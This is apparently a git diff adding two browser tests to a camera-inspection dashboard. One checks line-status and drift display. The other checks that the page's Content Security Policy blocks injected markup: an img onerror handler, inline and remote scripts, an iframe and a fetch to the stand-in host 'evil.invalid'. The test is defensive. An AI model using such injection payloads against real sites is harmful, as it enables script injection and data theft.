@@ -12,6 +12,8 @@ import type { Health } from '../../src/observe/health.js';
 import { type HttpServer, startHttp } from '../../src/observe/http.js';
 import { LiveView } from '../../src/observe/live.js';
 import { Random } from '../../src/random.js';
+import type { DriftStatus } from '../../src/watch/drift.js';
+import type { LineStatus } from '../../src/watch/line-state.js';
 import { frameOf, judgementOf, pictureOf, REJECTION, regionOf } from '../observe/synthetic.js';
 
 const CHROMIUM = '/usr/bin/chromium';
@@ -149,6 +151,68 @@ browserTest('a card a camera: picture, verdict, scores', async (t) => {
     t.deepEqual([...hosts], [new URL(server.url).host]);
   });
 });
+
+browserTest('a card tells where the line stands, and of drift', async (t) => {
+  await show({}, async ({ page, live, complaints }) => {
+    const card = cardOf(page, 'cam-1');
+    const tell = (line: LineStatus, drift?: DriftStatus) =>
+      live.publish(frameOf('cam-1'), {
+        ...judgementOf(3, { overlay: pictures.good }),
+        standing: { line, ...(drift && { drift }) },
+      });
+    void tell({ state: 'ok', before: 'ok', anomalous: 0, of: 5 });
+    await card.locator('.verdict', { hasText: 'OK' }).waitFor();
+    t.is(await card.locator('.standing li:visible').count(), 0);
+    const drifting = { value: -0.314, limit: 0.2, warning: true, changed: true };
+    void tell({ state: 'warning', before: 'ok', anomalous: 1, of: 5 }, drifting);
+    await card.getByText('1 of 5 anomalous').waitFor();
+    await card.getByText('scores drift −0.31').waitFor();
+    void tell({ state: 'alarm', before: 'warning', anomalous: 3, of: 5 }, drifting);
+    await card.getByText('LINE ALARM: 3 of 5').waitFor();
+    await screenshot(page, 'standing');
+    void live.publish(frameOf('cam-1'), REJECTION); // tells nothing of either
+    await card.locator('.verdict', { hasText: 'REJECTED' }).waitFor();
+    t.is(await card.locator('.standing li:visible').count(), 2);
+    const over = { ...drifting, value: 0, warning: false };
+    void tell({ state: 'ok', before: 'alarm', anomalous: 0, of: 5 }, over);
+    await card.locator('.standing li:visible').first().waitFor({ state: 'hidden' });
+    t.is(await card.locator('.standing li:visible').count(), 0);
+    t.deepEqual(complaints, []);
+  });
+});
+
+browserTest(
+  'the page violates no policy of its own, and a script that got in would not run',
+  async (t) => {
+    await show({ feed: (live, clock) => feed(live, clock, ['cam-1']) }, async ({ page, live }) => {
+      await page.evaluate(
+        'violations = []; addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective))',
+      );
+      defect(live, 'cam-1', 'first');
+      await page.locator('.thumb').first().click();
+      await page.waitForFunction("document.querySelector('#viewer img').naturalWidth === 256");
+      await page.keyboard.press('Escape');
+      t.deepEqual(await page.evaluate('violations'), []);
+      // What an attacker would try whose markup got into the page in spite of all.
+      await page.evaluate(`
+      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="owned = 1"><p style="color:red">');
+      document.body.append(Object.assign(document.createElement('script'), { textContent: 'owned = 1' }));
+      document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.invalid/x.js' }));
+      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.invalid/' }));
+      fetch('https://evil.invalid/').catch(() => {});
+    `);
+      await page.waitForFunction('new Set(violations).size >= 6');
+      const stopped = new Set(await page.evaluate<string[]>('violations'));
+      t.deepEqual(
+        [...stopped].sort(),
+        ['connect-src', 'frame-src', 'img-src', 'script-src-elem', 'style-src-attr']
+          .concat(stopped.has('script-src-attr') ? 'script-src-attr' : [])
+          .sort(),
+      );
+      t.is(await page.evaluate('typeof owned'), 'undefined');
+    });
+  },
+);
 
 browserTest('a verdict stands beside the picture that it was given to', async (t) => {
   await show({}, async ({ page, live, clock }) => {
